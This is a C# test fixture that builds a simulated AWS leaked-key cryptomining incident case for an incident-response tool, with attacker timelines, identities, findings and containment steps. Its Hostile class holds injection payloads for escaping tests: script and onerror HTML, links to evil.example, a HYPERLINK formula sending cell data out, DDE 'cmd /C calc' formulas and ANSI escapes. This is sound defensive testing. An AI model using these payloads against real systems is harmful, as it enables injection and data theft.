using System.Text;
using System.Text.Json.Nodes;
using Microsoft.Extensions.Time.Testing;
using Shodo.Cases;
using Shodo.Investigation.Model;

namespace Shodo.Tests.Reports;

/// <summary>
/// A case as the range's leaked-key-cryptomining scenario leaves it after collect, investigate,
/// escalate and contain: written through the public case API (journal entries of the shared kinds,
/// evidence blobs, investigation documents), with realistic names, regions, instance types, the
/// personal-data bucket acme-customer-data and the snapshot shared with 444455556666.
/// <see cref="Hostile"/> puts attacker-chosen strings (script tags, attribute breakers, Markdown
/// links, spreadsheet formulas, ANSI escapes) where an attacker controls them: names, tags, user agents.
/// Shared with Shodo.Cli.Tests (linked source): public API only.
/// </summary>
public static class LeakedKeyCase
{
    public const string Account = "111122223333";
    public const string LeakedKey = "AKIAQ3EGRXZL7LEAK5TJ";
    public const string BackdoorKey = "AKIAQ3EGRXZLBKDR9P2M";
    public const string SessionKey = "ASIAQ3EGRXZLSESS4K7N";
    public const string AttackerIp = "185.220.101.47";
    public const string BackdoorIp = "45.137.21.9";
    public const string KaliAgent = "aws-cli/1.18.69 Python/3.8.3 Linux/5.7.0-kali1-amd64 botocore/1.17.44";
    public const string OutsideAccount = "444455556666";

    /// <summary>Attacker-chosen strings for the injection tests.</summary>
    public static class Hostile
    {
        public const string ScriptUser = "aws-support-svc<script>document.title='pwned'</script>";
        public const string AttributeBreaker = "\"><img src=x onerror=\"document.title='pwned'\">";
        public const string MarkdownLink = "[click here](http://evil.example/steal) ![x](http://evil.example/p.png)";
        public const string Formula = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"click\")";
        public const string Ansi = "\u001b[31mRED\u001b[0m\u001b]8;;http://evil.example\u0007link\u001b]8;;\u0007\rOVERWRITE";
        public const string PlusFormula = "+cmd|' /C calc'!A0";
        public const string AtFormula = "@SUM(1+1)*cmd|' /C calc'!A0";
    }

    /// <summary>When the attacker first used the key: 2026-11-28 10:32 JST.</summary>
    public static readonly DateTimeOffset AttackStart = new(2026, 11, 28, 1, 32, 0, TimeSpan.Zero);
    /// <summary>When the case was opened: 3 h 20 min later.</summary>
    public static readonly DateTimeOffset Opened = AttackStart.AddMinutes(200);

    public static async Task<string> BuildAsync(string root, bool hostile = false)
    {
        var clock = new FakeTimeProvider(Opened);
        string backdoorUser = hostile ? Hostile.ScriptUser : "aws-support-svc";
        string attackerAgent = hostile ? Hostile.AttributeBreaker + " " + Hostile.Ansi : KaliAgent;
        string instanceName = hostile ? Hostile.MarkdownLink + " " + Hostile.Ansi : "miner";
        string keyPair = hostile ? Hostile.PlusFormula : "xmrig";

        using var c = Case.Open(root, new CaseOptions
        {
            Title = "Leaked key " + LeakedKey + " on GitHub", AccountId = Account, Time = clock, LocalUser = "responder", Host = "ir-laptop",
        });
        async Task J(string kind, JsonObject data, int advanceSeconds = 5)
        {
            clock.Advance(TimeSpan.FromSeconds(advanceSeconds));
            await c.Journal.AppendAsync(kind, data);
        }

        await J("escalation.started", new JsonObject { ["levels"] = 2 });
        await J("escalation.sent", new JsonObject { ["level"] = 1, ["target"] = "security-oncall", ["channel"] = "slack", ["message"] = "Leaked key in use", ["attempt"] = 1 });
        await J("escalation.failed", new JsonObject { ["level"] = 2, ["target"] = "cto", ["channel"] = "pagerduty", ["error"] = "HTTP 503", ["attempt"] = 1, ["retryAt"] = "2026-11-28T04:57:00.000Z" }, 60);
        await J("escalation.sent", new JsonObject { ["level"] = 2, ["target"] = "cto", ["channel"] = "pagerduty", ["message"] = "Leaked key in use", ["attempt"] = 2 }, 60);
        await J("escalation.acknowledged", new JsonObject { ["by"] = "ops-sato", ["via"] = "slack" }, 240);

        await J("collect.started", new JsonObject { ["regions"] = new JsonArray("us-east-1", "ap-northeast-1") });
        var evidence = new List<string>();
        foreach (var (service, op, region, body) in new (string, string, string?, string)[]
        {
            ("iam", "ListUsers", null, $"<ListUsersResponse><ListUsersResult><Users><member><UserName>dev-tanaka</UserName></member><member><UserName>{System.Security.SecurityElement.Escape(backdoorUser)}</UserName></member></Users></ListUsersResult></ListUsersResponse>"),
            ("ec2", "DescribeInstances", "us-east-1", "<DescribeInstancesResponse><reservationSet><item><instancesSet><item><instanceId>i-0a1b2c3d4e5f60718</instanceId><instanceType>p3.2xlarge</instanceType></item></instancesSet></item></reservationSet></DescribeInstancesResponse>"),
            ("s3", "GetBucketTagging", "ap-northeast-1", "<Tagging><TagSet><Tag><Key>data-classification</Key><Value>personal</Value></Tag></TagSet></Tagging>"),
            ("rds", "DescribeDBSnapshotAttributes", "ap-northeast-1", $"<DescribeDBSnapshotAttributesResponse><DBSnapshotAttributesResult><DBSnapshotAttributes><DBSnapshotAttribute><AttributeName>restore</AttributeName><AttributeValues><AttributeValue>{OutsideAccount}</AttributeValue></AttributeValues></DBSnapshotAttribute></DBSnapshotAttributes></DBSnapshotAttributesResult></DescribeDBSnapshotAttributesResponse>"),
        })
        {
            clock.Advance(TimeSpan.FromSeconds(2));
            var record = await c.Evidence.StoreAsync(Encoding.UTF8.GetBytes(body), new EvidenceDescriptor(service, op, region) { ContentType = "text/xml" });
            evidence.Add(record.Sha256);
        }
        await J("collect.gap", new JsonObject
        {
            ["collector"] = "ec2", ["service"] = "ec2", ["operation"] = "DescribeInstances", ["region"] = "ap-southeast-3",
            ["kind"] = "RegionNotEnabled", ["code"] = "AuthFailure", ["message"] = "AWS was not able to validate the provided access credentials", ["httpStatus"] = 401,
            ["time"] = CaseTime.Format(clock.GetUtcNow()),
        });
        await J("collect.finished", new JsonObject { ["blobs"] = evidence.Count, ["gaps"] = 1 });
        await c.Documents.WriteJsonAsync("coverage.json", new JsonObject
        {
            ["investigation"] = new JsonObject { ["complete"] = true, ["lookupEvents"] = true, ["gaps"] = new JsonArray() },
            ["format"] = "shodo-coverage/1", ["complete"] = false, ["cancelled"] = false,
            ["regions"] = new JsonArray("us-east-1", "us-east-2", "us-west-2", "eu-west-1", "ap-northeast-1"),
            ["gaps"] = new JsonArray(new JsonObject
            {
                ["collector"] = "ec2", ["service"] = "ec2", ["operation"] = "DescribeInstances", ["region"] = "ap-southeast-3",
                ["kind"] = "RegionNotEnabled", ["code"] = "AuthFailure", ["message"] = "AWS was not able to validate the provided access credentials", ["httpStatus"] = 401,
                ["time"] = CaseTime.Format(clock.GetUtcNow()),
            }),
        }, "collect");

        await J("investigate.started", new JsonObject { ["startingPoint"] = LeakedKey }, 20);
        var events = Timeline(backdoorUser, attackerAgent, keyPair, hostile);
        var identities = Identities(backdoorUser, attackerAgent, events);
        var resources = Resources(backdoorUser, instanceName, keyPair, evidence);
        var findings = Findings(backdoorUser);
        await c.Documents.WriteAsync("timeline.jsonl", Encoding.UTF8.GetBytes(string.Concat(events.Select(e => e.ToJsonString() + "\n"))), "investigate");
        await InvestigationFiles.WriteAsync(c, InvestigationFiles.Identities, "shodo-identities/1", "identities", identities);
        await InvestigationFiles.WriteAsync(c, InvestigationFiles.AttackerResources, "shodo-attacker-resources/1", "resources", resources);
        await InvestigationFiles.WriteAsync(c, InvestigationFiles.Findings, "shodo-findings/1", "findings", findings);
        var impact = InvestigationFiles.ToNode(Impact(clock.GetUtcNow())).AsObject();
        impact["format"] = "shodo-impact/1";
        await c.Documents.WriteJsonAsync(InvestigationFiles.Impact, impact, "investigate");
        await J("investigate.finished", new JsonObject
        {
            ["identities"] = identities.Count, ["resources"] = resources.Count, ["findings"] = findings.Count,
            ["counts"] = new JsonObject { ["events"] = events.Count },
        });

        var actions = new (string Id, string Target, string Operation, string Description, JsonObject Before, JsonObject? After, string Outcome, string? Reason)[]
        {
            ("deactivate-leaked-key", $"iam:access-key::{LeakedKey}", "iam:UpdateAccessKey", "Deactivate the leaked access key",
                new() { ["status"] = "Active" }, new() { ["status"] = "Inactive" }, "done", null),
            ("deactivate-backdoor-key", $"iam:access-key::{BackdoorKey}", "iam:UpdateAccessKey", "Deactivate the backdoor user's access key",
                new() { ["status"] = "Active", ["user"] = backdoorUser }, new() { ["status"] = "Inactive" }, "done", null),
            ("quarantine-backdoor-user", $"iam:user::{backdoorUser}", "iam:AttachUserPolicy", "Attach AWSCompromisedKeyQuarantineV3 to the backdoor user",
                new() { ["attachedPolicies"] = new JsonArray("AdministratorAccess") }, new() { ["attachedPolicies"] = new JsonArray("AdministratorAccess", "AWSCompromisedKeyQuarantineV3") }, "done", null),
            ("stop-i-0a1b2c3d4e5f60718", "ec2:instance:us-east-1:i-0a1b2c3d4e5f60718", "ec2:StopInstances", "Stop instance " + instanceName,
                new() { ["state"] = "running", ["instanceType"] = "p3.2xlarge" }, new() { ["state"] = "stopped" }, "done", null),
            ("stop-i-0b2c3d4e5f6071829", "ec2:instance:us-east-2:i-0b2c3d4e5f6071829", "ec2:StopInstances", "Stop instance",
                new() { ["state"] = "running", ["instanceType"] = "p3.2xlarge" }, new() { ["state"] = "stopped" }, "done", null),
            ("stop-i-0c3d4e5f607182930", "ec2:instance:us-east-1:i-0c3d4e5f607182930", "ec2:StopInstances", "Stop instance",
                new() { ["state"] = "running", ["instanceType"] = "c5.24xlarge" }, new() { ["state"] = "stopped" }, "done", null),
            ("cancel-sir-7k2m9p4q", "ec2:spot-instance-request:ap-northeast-1:sir-7k2m9p4q", "ec2:CancelSpotInstanceRequests", "Cancel the persistent Spot request (it relaunches what is stopped)",
                new() { ["state"] = "active", ["type"] = "persistent" }, null, "pending-approval", "cancelling is outside the authority policy"),
            ("unshare-crm-db-manual-2026-11-20", "rds:shared-snapshot:ap-northeast-1:crm-db-manual-2026-11-20", "rds:ModifyDBSnapshotAttribute", "Stop sharing the snapshot with " + OutsideAccount,
                new() { ["restore"] = new JsonArray(OutsideAccount) }, new() { ["restore"] = new JsonArray() }, "done", null),
            ("stop-i-0d4e5f60718293a4b", "ec2:instance:eu-west-1:i-0d4e5f60718293a4b", "ec2:TerminateInstances", "Instance " + instanceName + " is a one-time Spot instance: it cannot be stopped, only terminated",
                new() { ["state"] = "running", ["instanceType"] = "g4dn.12xlarge", ["market"] = "spot-one-time" }, null, "needs-decision", "terminating deletes the instance and its disks; Shodo never deletes"),
            ("login-profile-" + backdoorUser, $"iam:login-profile::{backdoorUser}", "iam:DeleteLoginProfile", "Remove the backdoor user's console password",
                new() { ["loginProfile"] = true }, null, "needs-decision", "removing a console password deletes it; Shodo never deletes"),
        };
        await J("containment.planned", new JsonObject
        {
            ["planSha256"] = new string('a', 64),
            ["actions"] = new JsonArray(actions.Select(a => (JsonNode)new JsonObject
            {
                ["actionId"] = a.Id, ["target"] = a.Target, ["operation"] = a.Operation, ["description"] = a.Description,
            }).ToArray()),
        }, 30);
        await J("containment.approved", new JsonObject { ["planSha256"] = new string('a', 64), ["by"] = "ops-sato", ["actions"] = actions.Length }, 60);
        foreach (var a in actions)
        {
            await J("containment.before", new JsonObject { ["actionId"] = a.Id, ["target"] = a.Target, ["state"] = a.Before }, 2);
            if (a.Outcome == "done")
                await J("containment.changed", new JsonObject { ["actionId"] = a.Id, ["operation"] = a.Operation, ["request"] = new JsonObject { ["target"] = a.Target } }, 1);
            await J("containment.outcome", new JsonObject { ["actionId"] = a.Id, ["outcome"] = a.Outcome, ["after"] = a.After, ["reason"] = a.Reason }, 1);
        }
        await J("containment.verified", new JsonObject
        {
            ["contained"] = false, ["remaining"] = new JsonArray("ec2:spot-instance-request:ap-northeast-1:sir-7k2m9p4q"), ["newResources"] = new JsonArray(),
        }, 30);
        return c.Directory;
    }

    private static JsonObject Event(string id, TimeSpan at, string source, string name, string? region, string ip, string agent, string key,
        string user, string? error = null) => new()
    {
        ["eventId"] = id, ["eventTime"] = CaseTime.Format(AttackStart + at), ["eventSource"] = source + ".amazonaws.com", ["eventName"] = name,
        ["region"] = region ?? "us-east-1", ["sourceIp"] = ip, ["userAgent"] = agent, ["accessKeyId"] = key,
        ["principalArn"] = $"arn:aws:iam::{Account}:user/{user}", ["userName"] = user, ["identityType"] = "IAMUser",
        ["accountId"] = Account, ["errorCode"] = error, ["source"] = "lookup:" + (region ?? "us-east-1"),
    };

    private static List<JsonObject> Timeline(string backdoorUser, string agent, string keyPair, bool hostile)
    {
        static TimeSpan s(int x) => TimeSpan.FromSeconds(x);
        static TimeSpan m(int x) => TimeSpan.FromMinutes(x);
        var n = 0;
        string Id() => $"7f3c{++n:D4}-1a2b-4c3d-8e9f-0a1b2c3d4e5f";
        var list = new List<JsonObject>
        {
            Event(Id(), m(0), "sts", "GetCallerIdentity", null, AttackerIp, agent, LeakedKey, "dev-tanaka"),
            Event(Id(), s(30), "iam", "ListAttachedUserPolicies", null, AttackerIp, agent, LeakedKey, "dev-tanaka"),
            Event(Id(), m(1), "s3", "ListBuckets", null, AttackerIp, agent, LeakedKey, "dev-tanaka"),
            Event(Id(), s(90), "s3", "GetBucketTagging", "ap-northeast-1", AttackerIp, agent, LeakedKey, "dev-tanaka"),
            Event(Id(), m(2), "s3", "ListObjectsV2", "ap-northeast-1", AttackerIp, agent, LeakedKey, "dev-tanaka"),
            Event(Id(), m(3), "s3", "GetObject", "ap-northeast-1", AttackerIp, agent, LeakedKey, "dev-tanaka"),
            Event(Id(), m(3) + s(20), "s3", "GetObject", "ap-northeast-1", AttackerIp, hostile ? LeakedKeyCase.Hostile.Formula : agent, LeakedKey, "dev-tanaka"),
            Event(Id(), m(3) + s(50), "s3", "GetObject", "ap-northeast-1", AttackerIp, hostile ? LeakedKeyCase.Hostile.AtFormula : agent, LeakedKey, "dev-tanaka"),
            Event(Id(), m(10), "iam", "CreateUser", null, AttackerIp, agent, LeakedKey, "dev-tanaka"),
            Event(Id(), m(10) + s(10), "iam", "AttachUserPolicy", null, AttackerIp, agent, LeakedKey, "dev-tanaka"),
            Event(Id(), m(10) + s(20), "iam", "CreateAccessKey", null, AttackerIp, agent, LeakedKey, "dev-tanaka"),
            Event(Id(), m(10) + s(30), "iam", "CreateLoginProfile", null, AttackerIp, agent, LeakedKey, "dev-tanaka"),
            Event(Id(), m(12), "sts", "GetSessionToken", null, AttackerIp, agent, LeakedKey, "dev-tanaka"),
            Event(Id(), m(14), "sts", "GetCallerIdentity", null, BackdoorIp, agent, BackdoorKey, backdoorUser),
            Event(Id(), m(15), "cloudtrail", "StopLogging", null, AttackerIp, agent, LeakedKey, "dev-tanaka", "AccessDenied"),
            Event(Id(), m(16), "ec2", "DescribeRegions", null, AttackerIp, agent, LeakedKey, "dev-tanaka"),
        };
        var regions = new[] { "us-east-1", "us-east-2", "us-west-2", "eu-west-1", "ap-northeast-1" };
        for (var i = 0; i < regions.Length; i++)
            list.Add(Event(Id(), m(20) + s(15 * i), "ec2", "ImportKeyPair", regions[i], AttackerIp, agent, LeakedKey, "dev-tanaka"));
        list.Add(Event(Id(), m(26), "ec2", "RunInstances", "us-east-1", AttackerIp, agent, LeakedKey, "dev-tanaka"));
        list.Add(Event(Id(), m(26) + s(20), "ec2", "RunInstances", "us-east-2", AttackerIp, agent, LeakedKey, "dev-tanaka"));
        list.Add(Event(Id(), m(35), "ec2", "RunInstances", "eu-west-1", BackdoorIp, agent, BackdoorKey, backdoorUser));
        list.Add(Event(Id(), m(45), "ec2", "RequestSpotInstances", "ap-northeast-1", BackdoorIp, agent, BackdoorKey, backdoorUser));
        list.Add(Event(Id(), m(60), "ec2", "DescribeInstances", "us-east-1", AttackerIp, agent, SessionKey, "dev-tanaka"));
        list.Add(Event(Id(), m(61), "ec2", "RunInstances", "us-east-1", AttackerIp, agent, SessionKey, "dev-tanaka"));
        list.Add(Event(Id(), m(70), "rds", "DescribeDBSnapshots", "ap-northeast-1", AttackerIp, agent, LeakedKey, "dev-tanaka"));
        list.Add(Event(Id(), m(71), "rds", "ModifyDBSnapshotAttribute", "ap-northeast-1", AttackerIp, agent, LeakedKey, "dev-tanaka"));
        list.Add(Event(Id(), m(90), "iam", "ListUsers", null, BackdoorIp, agent, BackdoorKey, backdoorUser));
        foreach (var e in list) if (e["errorCode"] is null) e.Remove("errorCode");
        _ = keyPair;
        return list;
    }

    private static List<AttackerIdentity> Identities(string backdoorUser, string agent, List<JsonObject> events)
    {
        IReadOnlyList<string> Ids(string key) => events.Where(e => (string?)e["accessKeyId"] == key).Select(e => (string)e["eventId"]!).ToList();
        static TimeSpan m(int x) => TimeSpan.FromMinutes(x);
        return
        [
            new() { Id = "access-key:" + LeakedKey, Kind = IdentityKind.AccessKey, Name = LeakedKey, AccessKeyId = LeakedKey, Owner = "dev-tanaka",
                Arn = $"arn:aws:iam::{Account}:user/dev-tanaka", Confidence = Confidence.Confirmed,
                Reason = "The leaked key: used from an address and tool dev-tanaka never used, to create a backdoor user.",
                FirstSeen = AttackStart, LastSeen = AttackStart + m(71), SourceIps = [AttackerIp], UserAgents = [agent], EventIds = Ids(LeakedKey) },
            new() { Id = "user:" + backdoorUser, Kind = IdentityKind.User, Name = backdoorUser, Arn = $"arn:aws:iam::{Account}:user/{backdoorUser}",
                Confidence = Confidence.Confirmed, CreatedByAttacker = true, CreatedBy = "access-key:" + LeakedKey,
                Reason = "Created with the leaked key and given AdministratorAccess.", FirstSeen = AttackStart + m(10), LastSeen = AttackStart + m(90),
                SourceIps = [BackdoorIp], UserAgents = [agent] },
            new() { Id = "access-key:" + BackdoorKey, Kind = IdentityKind.AccessKey, Name = BackdoorKey, AccessKeyId = BackdoorKey, Owner = backdoorUser,
                Confidence = Confidence.Confirmed, CreatedByAttacker = true, CreatedBy = "access-key:" + LeakedKey,
                Reason = "Created by the attacker for the backdoor user.", FirstSeen = AttackStart + m(14), LastSeen = AttackStart + m(90),
                SourceIps = [BackdoorIp], UserAgents = [agent], EventIds = Ids(BackdoorKey) },
            new() { Id = "session-key:" + SessionKey, Kind = IdentityKind.SessionKey, Name = SessionKey, AccessKeyId = SessionKey, Owner = "dev-tanaka",
                Confidence = Confidence.Confirmed, CreatedByAttacker = true, CreatedBy = "access-key:" + LeakedKey,
                Reason = "A 36-hour session token minted with GetSessionToken: disabling the leaked key does not revoke it.",
                FirstSeen = AttackStart + m(60), LastSeen = AttackStart + m(61), SourceIps = [AttackerIp], UserAgents = [agent], EventIds = Ids(SessionKey) },
            new() { Id = "login-profile:" + backdoorUser, Kind = IdentityKind.LoginProfile, Name = backdoorUser, Owner = backdoorUser,
                Confidence = Confidence.Confirmed, CreatedByAttacker = true, CreatedBy = "access-key:" + LeakedKey,
                Reason = "A console password for the backdoor user.", FirstSeen = AttackStart + m(10) },
        ];
    }

    private static List<AttackerResource> Resources(string backdoorUser, string instanceName, string keyPair, List<string> evidence)
    {
        static TimeSpan m(int x) => TimeSpan.FromMinutes(x);
        AttackerResource Instance(string region, string id, string type, string market, string by, int at) => new()
        {
            Id = $"ec2:instance:{region}:{id}", Type = ResourceTypes.Instance, Region = region, ResourceId = id, Name = instanceName, State = "stopped",
            CreatedBy = by, CreatedAt = AttackStart + m(at), Evidence = [evidence[1]],
            Attributes = new JsonObject { ["instanceType"] = type, ["market"] = market, ["keyName"] = keyPair, ["tags"] = new JsonObject { ["Name"] = instanceName } },
        };
        var leaked = "access-key:" + LeakedKey;
        var backdoor = "access-key:" + BackdoorKey;
        var list = new List<AttackerResource>
        {
            Instance("us-east-1", "i-0a1b2c3d4e5f60718", "p3.2xlarge", "on-demand", leaked, 26),
            Instance("us-east-2", "i-0b2c3d4e5f6071829", "p3.2xlarge", "on-demand", leaked, 26),
            Instance("us-east-1", "i-0c3d4e5f607182930", "c5.24xlarge", "on-demand", "session-key:" + SessionKey, 61),
            Instance("eu-west-1", "i-0d4e5f60718293a4b", "g4dn.12xlarge", "spot-one-time", backdoor, 35) with { State = "running" },
            new() { Id = "ec2:spot-instance-request:ap-northeast-1:sir-7k2m9p4q", Type = ResourceTypes.SpotRequest, Region = "ap-northeast-1",
                ResourceId = "sir-7k2m9p4q", State = "active", CreatedBy = backdoor, CreatedAt = AttackStart + m(45),
                Attributes = new JsonObject { ["type"] = "persistent", ["instanceType"] = "p3.8xlarge" } },
            new() { Id = "iam:user::" + backdoorUser, Type = ResourceTypes.User, ResourceId = backdoorUser, Name = backdoorUser, State = "active",
                CreatedBy = leaked, CreatedAt = AttackStart + m(10), Evidence = [evidence[0]] },
            new() { Id = "iam:access-key::" + BackdoorKey, Type = ResourceTypes.AccessKey, ResourceId = BackdoorKey, State = "Inactive", CreatedBy = leaked, CreatedAt = AttackStart + m(10) },
            new() { Id = "iam:login-profile::" + backdoorUser, Type = ResourceTypes.LoginProfile, ResourceId = backdoorUser, State = "active", CreatedBy = leaked, CreatedAt = AttackStart + m(10) },
            new() { Id = "rds:shared-snapshot:ap-northeast-1:crm-db-manual-2026-11-20", Type = ResourceTypes.SharedDbSnapshot, Region = "ap-northeast-1",
                ResourceId = "crm-db-manual-2026-11-20", State = "shared", CreatedBy = leaked, CreatedAt = AttackStart + m(71), Evidence = [evidence[3]],
                Attributes = new JsonObject { ["sharedWith"] = new JsonArray(OutsideAccount) } },
        };
        foreach (var region in new[] { "us-east-1", "us-east-2", "us-west-2", "eu-west-1", "ap-northeast-1" })
            list.Add(new() { Id = $"ec2:key-pair:{region}:{keyPair}", Type = ResourceTypes.KeyPair, Region = region, ResourceId = keyPair, Name = keyPair,
                CreatedBy = leaked, CreatedAt = AttackStart + m(20) });
        return list;
    }

    private static List<Finding> Findings(string backdoorUser)
    {
        static TimeSpan m(int x) => TimeSpan.FromMinutes(x);
        return
        [
            new() { Id = "aws-iam-backdoor-user-3f9a", RuleId = "aws-iam-backdoor-user", Title = "IAM user created and given administrator rights",
                Severity = Severity.High, Techniques = ["T1136.003", "T1098.001"], Tactic = "persistence",
                Summary = $"The leaked key created user {backdoorUser}, attached AdministratorAccess and created a key and a console password for it.",
                Identities = ["access-key:" + LeakedKey], Resources = ["iam:user::" + backdoorUser], FirstSeen = AttackStart + m(10), LastSeen = AttackStart + m(10) },
            new() { Id = "aws-ec2-mining-burst-81c2", RuleId = "aws-ec2-mining-burst", Title = "GPU instances launched in many regions",
                Severity = Severity.Critical, Techniques = ["T1496"], Tactic = "impact",
                Summary = "Large GPU instances were launched in 4 regions within 40 minutes, typical of cryptocurrency mining.",
                Resources = ["ec2:instance:us-east-1:i-0a1b2c3d4e5f60718", "ec2:instance:eu-west-1:i-0d4e5f60718293a4b"],
                FirstSeen = AttackStart + m(26), LastSeen = AttackStart + m(61) },
            new() { Id = "aws-rds-snapshot-shared-external-5d10", RuleId = "aws-rds-snapshot-shared-external", Title = "Database snapshot shared with an outside account",
                Severity = Severity.Critical, Techniques = ["T1537"], Tactic = "exfiltration",
                Summary = $"crm-db-manual-2026-11-20 was shared with account {OutsideAccount}.",
                Resources = ["rds:shared-snapshot:ap-northeast-1:crm-db-manual-2026-11-20"], FirstSeen = AttackStart + m(71), LastSeen = AttackStart + m(71) },
            new() { Id = "aws-cloudtrail-stop-logging-0b7e", RuleId = "aws-cloudtrail-stop-logging", Title = "Attempt to stop CloudTrail logging",
                Severity = Severity.Medium, Techniques = ["T1562.008"], Tactic = "defense-evasion",
                Summary = "StopLogging on acme-audit was denied by the developers group's guardrail.", FirstSeen = AttackStart + m(15), LastSeen = AttackStart + m(15) },
        ];
    }

    private static Impact Impact(DateTimeOffset asOf)
    {
        InstanceCost Cost(string id, string region, string type, string market, string state, decimal price, double hours) =>
            new(id, region, type, market, state, price, hours, decimal.Round(price * (decimal)hours, 2));
        var instances = new[]
        {
            Cost("i-0a1b2c3d4e5f60718", "us-east-1", "p3.2xlarge", "on-demand", "stopped", 3.06m, 2.9),
            Cost("i-0b2c3d4e5f6071829", "us-east-2", "p3.2xlarge", "on-demand", "stopped", 3.06m, 2.9),
            Cost("i-0c3d4e5f607182930", "us-east-1", "c5.24xlarge", "on-demand", "stopped", 4.08m, 2.2),
            Cost("i-0d4e5f60718293a4b", "eu-west-1", "g4dn.12xlarge", "spot-one-time", "running", 1.76m, 2.75),
        };
        return new Impact
        {
            Cost = new CostEstimate
            {
                PriceTable = "aws-ec2-on-demand-2026-11 (Shodo data)", AsOf = asOf, Instances = instances,
                TotalSoFar = instances.Sum(i => i.CostSoFar ?? 0), BurnRatePerHour = 1.76m + 2 * 12.24m, UnknownTypes = ["p3.8xlarge"],
            },
            DataExposure =
            [
                new() { Kind = "s3-bucket", Name = "acme-customer-data", Region = "ap-northeast-1", PersonalData = true, Reachable = true,
                    Accessed = AccessVerdict.Accessed, Explanation = "The trail logs S3 data events for this bucket: the attacker read 3 objects.",
                    Objects =
                    [
                        new("exports/customers-2026-10.csv", "GetObject", AttackStart.AddMinutes(3), 48000, "7f3c0006-1a2b-4c3d-8e9f-0a1b2c3d4e5f"),
                        new("exports/customers-2026-11.csv", "GetObject", AttackStart.AddMinutes(3.3), 51000, "7f3c0007-1a2b-4c3d-8e9f-0a1b2c3d4e5f"),
                        new("backups/crm-db-2026-11-20.sql.gz", "GetObject", AttackStart.AddMinutes(3.8), 120000, "7f3c0008-1a2b-4c3d-8e9f-0a1b2c3d4e5f"),
                    ], BytesRead = 219000 },
                new() { Kind = "rds-snapshot", Name = "crm-db-manual-2026-11-20", Region = "ap-northeast-1", PersonalData = true, Reachable = true,
                    Accessed = AccessVerdict.Unknown, SharedWith = [OutsideAccount],
                    Explanation = $"Shared with account {OutsideAccount}; a restore in that account is not logged in ours.",
                    Unknowable = ["restore-in-other-account-not-logged"] },
                new() { Kind = "rds-instance", Name = "crm-db", Region = "ap-northeast-1", PersonalData = true, Reachable = true,
                    Accessed = AccessVerdict.Unknown, Explanation = "Database queries are not logged by CloudTrail.", Unknowable = ["data-events-not-logged"] },
                new() { Kind = "s3-bucket", Name = "acme-app-assets", Region = "ap-northeast-1", PersonalData = false, Reachable = true,
                    Accessed = AccessVerdict.Unknown, Explanation = "The trail does not log S3 data events for this bucket.", Unknowable = ["data-events-not-logged"] },
            ],
        };
    }
}
